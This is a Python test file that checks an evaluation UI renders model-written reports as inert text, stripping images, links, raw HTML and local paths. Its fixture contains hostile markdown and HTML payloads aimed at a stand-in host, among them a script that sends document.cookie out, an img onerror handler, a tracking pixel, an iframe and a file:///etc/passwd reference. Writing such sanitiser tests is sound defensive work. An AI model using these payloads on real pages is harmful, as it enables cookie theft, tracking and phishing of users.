"""The Evaluation tab shows a run's files sanitised: a report or comparison holding model output (anything) renders
with no image, no link, no raw HTML and no local absolute path. Rendered with markdown-it (CommonMark with raw HTML
and bare-URL links on, as a permissive renderer would) and checked on the HTML."""

from __future__ import annotations

import json
from html.parser import HTMLParser
from pathlib import Path

from markdown_it import MarkdownIt

from rag.config import PROJECT_ROOT
from ui import evaluation as E

HOSTILE = f"""# Eval report

| id | answer |
|---|---|
| q1 | PrivGate cuts leakage by 62.6% ![pixel](http://e.vil/track.png?u=1) [1] |
| q2 | see [the paper](https://e.vil/phish) and <img src="http://e.vil/a.png" onerror="alert(1)"> |
| q3 | <script>fetch('http://e.vil/'+document.cookie)</script> <a href="http://e.vil">x</a> |
| q4 | loaded {PROJECT_ROOT}/eval/runs/r1/questions.jsonl and /root/.cache/huggingface/hub/model.gguf |
| q5 | bare https://e.vil/x and www.e.vil.example and <http://e.vil/auto> and file:///etc/passwd |
| q6 | [![badge](http://e.vil/b.svg)](http://e.vil/c) and ![ref image][r] and [ref link][r] |

[r]: http://e.vil/ref.png
<iframe src="http://e.vil/frame"></iframe>

Speed: 12.5 tok/s, 1/2 of the questions, ratio 3/4.
"""


def _html(markdown: str) -> str:
    md = MarkdownIt("commonmark", {"html": True, "linkify": False}).enable("table")
    return md.render(markdown)


def _run(root: Path) -> Path:
    run = root / "20260101-000000"
    run.mkdir(parents=True)
    (run / "summary.json").write_text(json.dumps({"kind": "full"}))
    (run / "report.md").write_text(HOSTILE)
    (run / "compare.md").write_text(HOSTILE)
    (run / "questions.jsonl").write_text(json.dumps({
        "id": "q4", "kind": "factoid", "question": f"what is in {PROJECT_ROOT}/rag/cli.py?",
        "answer": "It reads /home/someone/secret/notes.txt", "citations": [{"n": 1, "paper_id": "abcdef0123"}],
        "metrics": {"correct": 1.0}}) + "\n")
    return run


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attrs: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attrs += attrs


def _assert_inert(markdown: str) -> None:
    html = _html(markdown)
    parsed = _Tags()
    parsed.feed(html)
    # Only the report's own structure is markup; nothing carries a URL or a handler.
    assert parsed.tags <= {"p", "h1", "strong", "em", "table", "thead", "tbody", "tr", "th", "td", "code"}, html
    assert parsed.attrs == [], parsed.attrs
    assert str(PROJECT_ROOT) not in html and "/root/" not in html and "/etc/passwd" not in html
    # A bare URL is shown as code (never turned into a link by a renderer that links URLs).
    for url in ("https://e.vil/x", "www.e.vil.example"):
        assert f"<code>{url}</code>" in html, html
    # What a reader needs stays: the facts, the link texts, the file names, fractions and units.
    for kept in ("62.6%", "the paper", "pixel", "badge", "eval/runs/r1/questions.jsonl", "…/model.gguf",
                 "12.5 tok/s", "1/2 of", "3/4", "&lt;script&gt;"):
        assert kept in html, (kept, html)


def test_the_report_and_comparison_render_without_images_links_html_or_paths(tmp_path: Path) -> None:
    _run(tmp_path)
    summary, comparison, rows, *_ = E.load(tmp_path)
    _assert_inert(summary)
    _assert_inert(comparison)
    assert rows[0][2] == "what is in rag/cli.py?" and rows[0][3] == "It reads …/notes.txt"


def test_sanitise_examples() -> None:
    assert E.sanitise("see ![x](http://e.vil/p.png) <img src=y> [doc](https://a.b) /root/m.gguf") == (
        "see x &lt;img src=y&gt; doc …/m.gguf")
    assert E.sanitise("a/b 1/2 tok/s ~/x/y.txt") == "a/b 1/2 tok/s …/y.txt"
    assert E.sanitise("/" + "a" * 5000 + "!") == "/" + "a" * 5000 + "!"  # no backtracking blow-up, one segment kept
